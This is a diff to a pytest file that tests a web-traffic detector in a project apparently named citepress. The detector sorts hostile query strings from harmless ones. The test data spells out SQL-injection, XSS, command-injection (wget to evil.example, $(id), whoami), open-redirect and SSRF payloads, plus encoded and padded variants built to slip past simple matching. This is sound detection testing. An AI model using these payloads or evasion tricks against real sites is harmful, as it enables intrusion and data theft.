@@ -13,7 +13,7 @@ from citepress.base.media import HTML
 from citepress.contract.reports.words import SCANNING
 from citepress.settings import Settings
 from citepress.telemetry.capture.route_templates import RouteTemplates
-from citepress.telemetry.identify.user_agents.probes import CATEGORIES, HOSTILE
+from citepress.telemetry.identify.user_agents.probes import CATEGORIES, HOSTILE, category, examine
 from support.access_log_import import START, built, combined, counts, fresh, run, written
 from support.edition import leaf
 from support.labelled_log import GOOGLE
@@ -31,6 +31,11 @@ ATTACKS = {
         "id=1/**/UNION/**/ALL/**/SELECT/**/null",
         "id=1' or '1'='1",
         "id=1 and 1=1",
+        "id=1' or 1=1--",
+        "user=admin'--",
+        "id=1 and sleep(5)--",
+        "id=1'xor(if(now()=sysdate(),sleep(15),0))xor'z",
+        "id=benchmark(1000000,md5(1))",
         "id=1;drop table users",
         "id=1 waitfor delay '0:0:5'",
         "x=<script>alert(1)</script>",
@@ -41,11 +46,23 @@ ATTACKS = {
         "name={{7*7}}",
         "name=${7*7}",
         "name=<%= 7*7 %>",
+        'x=" onmouseover=alert(1) y="',
         "cmd=;wget http://evil.example/a",
+        "f=x;cat /etc/hostname",
+        "f=|id;",
+        "f=`id`",
+        "f=$(id)",
+        "f=1&&whoami",
         "u=http://169.254.169.254/latest/meta-data/",
         "f=php://filter/convert.base64-encode/resource=index",
     ],
-    "redirect": ["next=//evil.example", "next=/\\evil.example", "r=\\\\evil.example", "next=https:evil.example"],
+    "redirect": [
+        "next=//evil.example",
+        "next=/\\evil.example",
+        "return=\\\\evil.example",
+        "next=https:evil.example",
+        "goto=/\t/evil.example",
+    ],
     "address": ["next=https://evil.example/", "redirect_uri=http://evil.example", "file=http://evil.example/shell.txt"],
 }
 """By category: what a query holds that no route here takes."""
@@ -59,8 +76,51 @@ FAITH = [
     "fbclid=IwAR0_-aBc",
     "title=Rock 'n' Roll & Drums; updated",
     "lang=en;q=0.9",
+    "a=1&id",
+    "a=1&cat",
+    "a=1&id&ping",
+    "tags=dog|cat",
+    "tags=dog;cat;fish",
+    "fields=name|id|cat",
+    "fields=name;id;cat",
+    "utm_campaign=benchmark(2026)",
+    "utm_campaign=${date}",
+    "utm_campaign=<%= name %>",
+    "utm_content={{user.name}}",
+    "cat=dog' and cat=tom",
+    "filter=a or 1 = 1",
+    "note=rest; sleep(8) hours",
+    "note=sleep(8) hours or sleep(9) hours",
+    "note='so'; updated",
+    "note=cats; exec summary",
+    "ref=//example.com",
+    "utm_source=//example.com",
+    "return=//posts/one/",
+    "p=../x",
+    "u=file:///c:/notes.html",
+    "u=gopher://gopher.example/1/",
+    "onerror=retry",
+    "name=javascript: window functions",
 ]
 """Queries that are no attack on any path."""
+TWISTED = {
+    "traversal": [
+        "/a/..%c0%af..%c0%afx",
+        "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
+        "/a/..%e0%80%af..%e0%80%afx",
+        "/a?f=..%255c..%255cx",
+    ],
+    "injection": [
+        f"/?pad={'x' * 8_000}&q=%3Cscript%3E",
+        f"/?q=%3Cscript%3E&pad={'x' * 60_000}",
+        f"/?pad={'x' * 60_000}&q=%3Cscript%3E",
+        "/?x=%25253Cscript%25253E",
+        "/?id=1%0aunion%09select%0d1",
+        "/?f=1%26%26whoami",
+    ],
+    "redirect": ["/?next=/%09/evil.example", "/?url=%252f%252fevil.example", "/?goto=%25252f%25252fevil.example"],
+}
+"""Targets that are written so that a simple search misses them."""
 WORDS = [
     "union select 1,2,3--",
     "<script>alert(1)</script>",
@@ -104,17 +164,17 @@ def writings(query: str) -> Iterator[str]:
     yield f"{name}={quote_plus(value)}"
 
 
-@pytest.mark.parametrize("category", HOSTILE)
+@pytest.mark.parametrize("wanted", HOSTILE)
 def test_an_attack_on_a_page_that_exists_is_known_live_however_it_is_written(
-    counted: TrafficCounter, category: str
+    counted: TrafficCounter, wanted: str
 ) -> None:
     home = leaf("/", HTML, "<p>home</p>", route="/", canonical="home")
-    for query in ATTACKS[category]:
+    for query in ATTACKS[wanted]:
         for writing in writings(query):
             counted.ask(f"/?{writing}", CHROME, leaf=home)
             counted.ask(f"/posts/gone/?{writing}", CHROME, leaf=None, status=404)
     rows = counted.rows()
-    assert {(CATEGORIES[row.probe - 1] if row.probe else "", row.route > 0) for row in rows} == {(category, True)}
+    assert {(CATEGORIES[row.probe - 1] if row.probe else "", row.route > 0) for row in rows} == {(wanted, True)}
 
 
 def test_attacks_in_imported_logs_are_scanner_noise_on_pages_that_were_answered(
@@ -140,6 +200,25 @@ def test_an_attack_under_the_name_of_a_crawler_is_scanner_noise_and_reads_nothin
 
 def test_a_crawler_that_follows_a_link_with_an_address_in_it_is_a_crawler(place: Settings, tmp_path: Path) -> None:
     assert classes(place, tmp_path, [combined(START, "/posts/one/?url=https://a.example/", GOOGLE)]) == {"crawler": 1}
+
+
+@pytest.mark.parametrize("wanted", TWISTED)
+def test_an_attack_is_found_behind_padding_and_unusual_escapes(wanted: str) -> None:
+    found = [(target[:60], examine(target.encode())[0], category(target.encode())) for target in TWISTED[wanted]]
+    assert found == [(target[:60], wanted, wanted) for target in TWISTED[wanted]]
+
+
+@pytest.mark.parametrize("query", FAITH)
+def test_what_a_person_may_follow_is_no_attack_however_it_is_written(query: str) -> None:
+    spellings = [
+        query,
+        quote(query, safe="=&+"),
+        quote(query, safe="=&'()|;/:"),
+        *writings(query),
+        quote(query, safe=""),
+    ]
+    targets = [f"{path}?{spelling}" for spelling in spellings for path in ("/", "/posts/gone/")]
+    assert [(target, examine(target.encode())[0]) for target in targets if examine(target.encode())[0]] == []
 
 
 def test_what_is_asked_in_good_faith_is_no_attack_on_any_public_route(counted: TrafficCounter) -> None:
